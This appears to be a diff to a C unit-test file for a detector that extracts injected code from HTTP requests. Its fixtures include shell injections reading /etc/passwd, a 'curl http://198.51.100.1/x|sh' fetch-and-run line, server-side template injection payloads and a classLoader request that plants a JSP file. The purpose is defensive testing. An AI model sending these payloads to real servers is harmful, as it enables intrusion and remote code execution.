@@ -53,9 +53,14 @@ static void what_stands_behind_a_delimiter_is_the_code(void **state)
 		{ HEAD("/p?ip=x%7Cid"), LANGUAGE_SHELL, "id", CONTEXT_PIPED_INTO, SINK_RESOURCE },
 		{ HEAD("/p?ip=1%26%26uname+-a"), LANGUAGE_SHELL, "uname -a", CONTEXT_IF_SUCCESS, SINK_RESOURCE },
 		{ HEAD("/p?ip=1%7C%7Cls%20/"), LANGUAGE_SHELL, "ls /", CONTEXT_IF_FAILURE, SINK_RESOURCE },
+		{ HEAD("/p?file=id%7C"), LANGUAGE_SHELL, "id", CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/p?file=uname%20-a%20%7C"), LANGUAGE_SHELL, "uname -a", CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/p?ip=host%0Aid"), LANGUAGE_SHELL, "id", CONTEXT_AFTER, SINK_RESOURCE },
+		{ HEAD("/p?ip=host%3Bdate%20%2B%25s%20%3E/dev/null"), LANGUAGE_SHELL, "date +%s >/dev/null", CONTEXT_AFTER, SINK_RESOURCE },
 		{ HEAD("/p?ip=1%0Acat%20/etc/passwd"), LANGUAGE_SHELL, "cat /etc/passwd", CONTEXT_AFTER, SINK_RESOURCE },
 		{ HEAD("/p?ip=%24(whoami)"), LANGUAGE_SHELL, "whoami", CONTEXT_SUBSTITUTION, SINK_RESOURCE },
 		{ HEAD("/p?ip=%60sleep%205%60"), LANGUAGE_SHELL, "sleep 5", CONTEXT_SUBSTITUTION, SINK_RESOURCE },
+		{ HEAD("/p?host=localhost%0Aid"), LANGUAGE_SHELL, "id", CONTEXT_AFTER, SINK_RESOURCE },
 		{ FORM("email=a%40b;curl http://198.51.100.1/x|sh"), LANGUAGE_SHELL, "curl http://198.51.100.1/x|sh",
 		  CONTEXT_AFTER, SINK_RESOURCE },
 		{ "POST /l HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n7\r\nip=1%3B\r\n2\r\nid\r\n0\r\n\r\n", LANGUAGE_SHELL, "id",
@@ -139,6 +144,8 @@ static void ordinary_text_is_no_command(void **state)
 		{ FORM("x=options+%3D%0A{%22help%22,+no_argument,+0},%0A{%22version%22,+1}"), 0, NULL, 0, 0 },
 		{ FORM("x=Example:%0A```python%0Aimport+httplib2%0Ah+=+Http(%22.cache%22)%0A```%0Aand+so+on"), 0, NULL, 0, 0 },
 		{ FORM("x=AT%26T;+cat+%26+dog"), 0, NULL, 0, 0 },
+		{ HEAD("/p?x=Date+%7C"), 0, NULL, 0, 0 },
+		{ HEAD("/p?x=home+%7C+find+%7C"), 0, NULL, 0, 0 },
 		{ FORM("x=;top+Something+else+1+The+title.+After+more+words"), 0, NULL, 0, 0 },
 		{ HEAD("/p?x=1;/tmp/.x/run+-d"), LANGUAGE_SHELL, "/tmp/.x/run -d", CONTEXT_AFTER, SINK_RESOURCE },
 		{ HEAD("/p?x=1;/u*r/b?n/id"), LANGUAGE_SHELL, "/u*r/b?n/id", CONTEXT_AFTER, SINK_RESOURCE },
@@ -260,6 +267,44 @@ static void ordinary_text_gives_nothing(void **state)
 	};
 
 	expect_all(samples, COUNT_OF(samples));
+}
+
+static void code_of_templates_is_found_whatever_its_delimiters(void **state)
+{
+	static const struct sample samples[] = {
+		{ FORM("t=%3C%25%3D%20%60id%60%20%25%3E"), LANGUAGE_TEMPLATE, "<%= `id` %>", CONTEXT_ALONE, SINK_RESOURCE },
+		{ FORM("t=%3C%25-%20process.version%20%25%3E"), LANGUAGE_TEMPLATE, "<%- process.version %>", CONTEXT_ALONE, SINK_RESOURCE },
+		{ FORM("t=%3C%25%0Aimport%20os%0Ax%3Dos.popen(%27id%27).read()%0A%25%3E$%7Bx%7D"), LANGUAGE_TEMPLATE, "<%\nimport os\nx=os.popen('id').read()\n%>${x}", CONTEXT_ALONE,
+		  SINK_RESOURCE },
+		{ FORM("t=%23set($a%3D(3*4))$a"), LANGUAGE_TEMPLATE, "#set($a=(3*4))$a", CONTEXT_ALONE, SINK_RESOURCE },
+		{ FORM("t=%5B%3D%22a.b.C%22?new()(%22id%22)%5D"), LANGUAGE_TEMPLATE, "[=\"a.b.C\"?new()(\"id\")]", CONTEXT_ALONE, SINK_RESOURCE },
+		{ FORM("t=%7Bmath equation%3D%223*4%22%7D"), LANGUAGE_TEMPLATE, "{math equation=\"3*4\"}", CONTEXT_ALONE, SINK_RESOURCE },
+		{ FORM("t=$%7Bnew File(%27/etc/passwd%27).text%7D"), LANGUAGE_TEMPLATE, "${new File('/etc/passwd').text}", CONTEXT_ALONE, SINK_RESOURCE },
+		{ FORM("t=less+%3C%25+than+5%25%3E+of+it"), 0, NULL, 0, 0 },
+		{ FORM("t=Is+it+new?+Yes+%23set+a"), 0, NULL, 0, 0 },
+		{ FORM("t=Dear+%7B%7B+user.name+%7D%7D,+hello"), 0, NULL, 0, 0 },
+	};
+
+	expect_all(samples, COUNT_OF(samples));
+}
+
+/* The pattern of a server's log is a page, with the request's headers in it, under the name that the other parameters make. */
+static void a_log_that_parameters_turn_into_a_page_is_an_upload(void **state)
+{
+	static const char request[] = "POST /a HTTP/1.1\r\nOpen: <%\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
+	    "class.module.classLoader.a.pattern=%25%7Bopen%7Di+out.print(1%2B1);%25%25%3E&class.module.classLoader.a.suffix=.jsp&class.module.classLoader.a.prefix=q7";
+	static const struct sample samples[] = {
+		{ request, LANGUAGE_JAVA, "<% out.print(1+1);%%>", CONTEXT_ALONE, SINK_HEADER },
+		{ HEAD("/a?class.module.classLoader.a.configFile=http://a.example/b"), LANGUAGE_URL, "http://a.example/b", CONTEXT_ALONE, SINK_RESOURCE },
+		{ FORM("class.name=b&pattern=c&class.module=d"), 0, NULL, 0, 0 },
+	};
+	struct extraction *e = NULL;
+
+	expect_all(samples, COUNT_OF(samples));
+	assert_int_equal(extract_bytes(bytes_text(request), &e), 0);
+	assert_string_equal(e->codes[0].file, "q7.jsp");
+	assert_string_equal(e->codes[0].class_name, "upload");
+	extraction_free(e);
 }
 
 static void a_code_tells_where_it_stood_and_how_it_was_written(void **state)
@@ -419,6 +464,8 @@ int main(void)
 		cmocka_unit_test(commands_that_no_shell_starts_are_quiet),
 		cmocka_unit_test(what_starts_nowhere_starts_in_no_quoting),
 		cmocka_unit_test(ordinary_text_gives_nothing),
+		cmocka_unit_test(code_of_templates_is_found_whatever_its_delimiters),
+		cmocka_unit_test(a_log_that_parameters_turn_into_a_page_is_an_upload),
 		cmocka_unit_test(a_code_tells_where_it_stood_and_how_it_was_written),
 		cmocka_unit_test(uploads_of_noise_give_nothing),
 		cmocka_unit_test(hostile_requests_stay_within_bounds),
